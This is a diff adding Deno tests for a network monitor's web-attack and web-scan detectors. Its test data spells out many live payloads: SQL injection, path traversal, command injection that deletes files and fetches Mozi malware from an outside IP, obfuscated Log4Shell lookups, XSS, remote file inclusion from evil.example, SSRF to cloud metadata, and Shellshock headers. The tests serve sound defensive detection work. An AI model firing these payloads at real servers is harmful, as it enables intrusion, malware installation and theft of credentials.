@@ -1,0 +1,146 @@
+/** Attacks on web servers: their strings in every disguise, and honest requests that look alike. @module */
+
+import { assertEquals } from "@std/assert";
+import { webAttack } from "../../../aggregator/detect/detectors/web_attack.ts";
+import { webScan } from "../../../aggregator/detect/detectors/web_scan.ts";
+import {
+  decodeWebText,
+  webAttacksInHeader,
+  webAttacksInTarget,
+} from "../../../aggregator/detect/signs/web_strings.ts";
+import type { HttpFact } from "../../../shared/facts.ts";
+import type { FlowUpdate } from "../../../aggregator/model/flow.ts";
+import { run, severity, times, update } from "./updates.ts";
+
+const attacks: [target: string, kind: string][] = [
+  ["/dv/sqli/?id=1%27+and+1%3D1%23&Submit=Submit", "SQL injection"],
+  ["/a?id=-1%20UNION%20ALL%20SELECT%201,2,3", "SQL injection"],
+  ["/a?id=1/**/UnIoN/**/sElEcT/**/user", "SQL injection"],
+  ["/a?user=admin%27--", "SQL injection"],
+  ["/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", "SQL injection"],
+  ["/a?id=1%20AND%20SLEEP(5)", "SQL injection"],
+  ["/a?id=1')%20or%20('1'='1", "SQL injection"],
+  ["/a?id=1%2527%2520or%25201%253D1", "SQL injection"],
+  ["/../../../../etc/passwd", "path traversal"],
+  ["/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "path traversal"],
+  ["/scripts/..%c0%af../winnt/system32/cmd.exe", "path traversal"],
+  ["/download?file=../../../../windows/win.ini", "path traversal"],
+  ["/view?page=/etc/passwd", "path traversal"],
+  ["/ping?host=127.0.0.1;cat%20/tmp/x", "command injection"],
+  ["/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/Mozi.m", "command injection"],
+  ["/x?a=$(whoami)", "command injection"],
+  ["/x?q=${jndi:ldap://203.0.113.9/a}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=${${lower:j}ndi:${lower:l}dap://x/a}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:rmi://x/a%7D", "JNDI look-up (Log4Shell)"],
+  ["/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script in a parameter (XSS)"],
+  ["/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "script in a parameter (XSS)"],
+  ["/i.php?page=php://filter/convert.base64-encode/resource=index", "code injection"],
+  ["/i?class.module.classLoader.resources.context.parent=x", "code injection"],
+  ["/i.php?page=http://evil.example/shell.txt?", "remote file inclusion"],
+  ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery (SSRF)"],
+  ["/uploads/c99.php", "web shell"],
+];
+
+Deno.test("attack strings are known in a request's target, however they are encoded", () => {
+  for (const [target, kind] of attacks) {
+    assertEquals(
+      webAttacksInTarget(target).includes(kind as never),
+      true,
+      `${target} -> ${decodeWebText(target)}`,
+    );
+  }
+});
+
+Deno.test("honest targets show no attack", () => {
+  for (
+    const target of [
+      "/",
+      "/search?q=union+of+concerned+scientists+select+committee",
+      "/search?q=select+the+best+or+the+rest",
+      "/article/the-1984-and-2001-elections",
+      "/combiner/c?v=20&css=base.css,/espn/styles/front.css",
+      "/sharer.php?u=http://news.example/page.php?id=5&t=It's+here",
+      "/login?redirect_uri=http://localhost:8080/callback",
+      "/p?a=1&&b=2&c=3",
+      "/ads?cb={{timestamp}}&x=%%CACHEBUSTER%%",
+      "/calc?formula=(1+2)*3",
+      "/owa/auth/logon.aspx?replaceCurrent=1",
+      "/js/app.js;jsessionid=ABC123",
+      "/path/../other/page.html",
+      "/a?name=O'Brien&city=St.+John's",
+      "/q?filter=price<100 and size>3",
+      "/wiki/Cat_(Unix)",
+    ]
+  ) assertEquals(webAttacksInTarget(target), [], target);
+});
+
+Deno.test("of header fields only what no browser writes is an attack", () => {
+  assertEquals(webAttacksInHeader("() { :;}; /bin/bash -c 'ping 203.0.113.5'"), ["Shellshock"]);
+  assertEquals(webAttacksInHeader("${jndi:dns://x}"), ["JNDI look-up (Log4Shell)"]);
+  for (
+    const agent of [
+      "Mozilla/5.0 (Linux; U; Android 4.0.4; id; sh; type) AppleWebKit/534.30",
+      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
+      "Opera/9.80 (Windows NT 6.1; U; cmd; perl)",
+    ]
+  ) assertEquals(webAttacksInHeader(agent), [], agent);
+});
+
+Deno.test("patterns take linear time over the longest hostile text", () => {
+  const started = performance.now();
+  for (const piece of ["'or ", "${", "../", "<img ", "((((", "union ", "%25", "/*", "=''", "{{1*"]) {
+    webAttacksInTarget(`/?a=${piece.repeat(2_000)}`);
+  }
+  assertEquals(performance.now() - started < 2_000, true);
+});
+
+/** A request of 203.0.113.5 to a web server of ours, with its answer. */
+function request(atS: number, uri: string, status = 200, more: Partial<HttpFact> = {}): FlowUpdate {
+  return update(atS, {
+    src_ip: "203.0.113.5",
+    dst_ip: "10.0.0.8",
+    dst_port: 80,
+    app_protocol: "http",
+    facts: {
+      http: [{ method: "GET", uri, host: "www.example.org", user_agent: "Mozilla/5.0", ...more }, { status }],
+    },
+  });
+}
+
+Deno.test("web attack: one quote is low, three variants are medium, one Log4Shell is medium at once", () => {
+  const inject = (count: number) => times(count, (i) => request(i, `/a?id=1'+and+${i}=${i}%23`));
+  assertEquals(severity(run(webAttack, inject(2))[0]), "low");
+  const [finding] = run(webAttack, inject(3));
+  assertEquals([severity(finding), finding.src_ips, finding.dst_ips, finding.dst_port, finding.count], [
+    "medium",
+    ["203.0.113.5"],
+    ["10.0.0.8"],
+    80,
+    3,
+  ]);
+  assertEquals(severity(run(webAttack, [request(0, "/?q=${jndi:ldap://x/a}")])[0]), "medium");
+  assertEquals(run(webAttack, times(50, (i) => request(i, `/page/${i}?q=a+or+b`))), []);
+});
+
+Deno.test("web attack in a header is found and shown with its name", () => {
+  const [finding] = run(webAttack, [request(0, "/cgi-bin/status", 200, { user_agent: "() { :;}; /bin/id" })]);
+  assertEquals(finding.evidence[2].value, "User-Agent: () { :;}; /bin/id");
+  assertEquals(finding.evidence[2].hostile, true);
+});
+
+Deno.test("web scan is found by its many refusals, its tool, or known weak places", () => {
+  const missing = (count: number) => times(count, (i) => request(i * 0.2, `/backup${i}.zip`, 404));
+  assertEquals(run(webScan, missing(30)), []);
+  assertEquals(severity(run(webScan, missing(31))[0]), "medium");
+  assertEquals(severity(run(webScan, [request(0, "/", 404, { user_agent: "sqlmap/1.7" })])[0]), "medium");
+  const places = ["/.env", "/.git/config", "/wp-config.php.bak", "/actuator/env"];
+  assertEquals(run(webScan, places.slice(0, 3).map((uri, i) => request(i, uri, 404))), []);
+  assertEquals(severity(run(webScan, places.map((uri, i) => request(i, uri, 404)))[0]), "medium");
+});
+
+Deno.test("web scan is not a reader with dead links, a slow crawler, or a user of webmail", () => {
+  const reader = times(100, (i) => request(i, `/page${i}`, i % 5 === 0 ? 404 : 200));
+  assertEquals(run(webScan, reader), []);
+  assertEquals(run(webScan, times(40, (i) => request(i * 60, `/old/${i}`, 404))), []);
+  assertEquals(run(webScan, times(40, (i) => request(i, `/owa/auth/15.1/resource${i}.js`, 200))), []);
+});
